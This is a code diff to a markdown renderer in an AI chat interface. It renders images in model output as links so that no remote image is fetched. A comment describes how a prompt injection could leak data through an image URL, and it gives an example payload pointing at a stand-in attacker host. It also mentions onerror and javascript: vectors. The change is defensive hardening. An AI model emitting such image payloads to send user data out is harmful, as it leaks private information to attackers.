@@ -78,18 +78,47 @@ def _code_block(value: Any, **props: Any) -> rx.Component:
     )
 
 
+# An image in model output would load as soon as it renders, even mid-stream, so a prompt
+# injection could leak data through its URL (``![](https://attacker/?d=...)``). It renders
+# as a link instead: the reader sees where it points and nothing is fetched. (The CSP's
+# ``img-src 'self'`` from app/guards/origins.py stops any that slip through.) react-markdown
+# hands the map function ``{node, children, ...props}``, so ``props.src``/``props.alt`` are
+# the image's; its default URL transform has already blanked ``javascript:`` and ``data:``.
+# The live reply (assets/live_reply.jsx) applies the same rule: IMAGE_AS_LINK_JSX.
+_IMG_SRC = rx.Var(_js_expr="props.src", _var_type=str)
+_IMG_LABEL = rx.Var(
+    _js_expr="('Image: ' + (props.alt || props.src || 'no address'))", _var_type=str
+)
+IMAGE_AS_LINK_JSX = (
+    'img: ({ node, src, alt }) => <a href={src} target="_blank" '
+    'rel="noopener noreferrer nofollow" className="md-image-link">'
+    '{"Image: " + (alt || src || "no address")}</a>'
+)
+
+
+def _image_as_link(*children: Any, **props: Any) -> rx.Component:
+    return rx.el.a(
+        _IMG_LABEL,
+        href=_IMG_SRC,
+        target="_blank",
+        rel="noopener noreferrer nofollow",
+        class_name="md-image-link",
+    )
+
+
 def safe_markdown(content: rx.Var[str] | str, **props: Any) -> rx.Component:
     """GitHub-flavoured markdown (tables, task lists, strikethrough, autolinks) with
     highlighted code blocks labelled with their language and a Copy button.
 
     ``use_raw=False`` drops rehype-raw, so ``<img onerror=...>`` in a reply stays text;
-    react-markdown's default URL transform blanks ``javascript:`` links.
+    react-markdown's default URL transform blanks ``javascript:`` links; images render as
+    links (``_image_as_link``), so nothing remote loads.
     """
     return rx.markdown(
         content,
         use_raw=False,
         use_katex=False,
         use_math=False,
-        component_map={"pre": _code_block},
+        component_map={"pre": _code_block, "img": _image_as_link},
         **props,
     )
